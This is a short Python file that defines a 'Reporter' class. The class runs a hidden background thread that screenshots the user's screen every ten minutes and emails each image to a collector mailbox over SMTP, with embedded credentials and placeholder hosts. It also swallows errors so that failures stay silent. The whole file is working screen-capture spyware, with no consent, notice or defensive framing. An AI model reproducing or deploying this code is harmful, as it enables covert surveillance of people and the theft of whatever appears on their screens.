import io
import smtplib
import threading
import time
from email.message import EmailMessage

import pyautogui


class Reporter:
    def __init__(self):
        self.thread = threading.Thread(target=self._run, daemon=True)

    def begin(self):
        self.thread.start()

    def _frame(self):
        image = pyautogui.screenshot()
        out = io.BytesIO()
        image.save(out, "JPEG", quality=40)
        return out.getvalue()

    def _run(self):
        while True:
            frame = self._frame()
            msg = EmailMessage()
            msg["Subject"] = "frame"
            msg["From"] = msg["To"] = "collector@mail.invalid"
            msg.add_attachment(frame, maintype="image", subtype="jpeg", filename="f.jpg")
            try:
                with smtplib.SMTP_SSL("smtp.mail.invalid", 465) as server:
                    server.login("collector@mail.invalid", "not-a-real-password")
                    server.send_message(msg)
            except OSError:
                pass
            time.sleep(600)
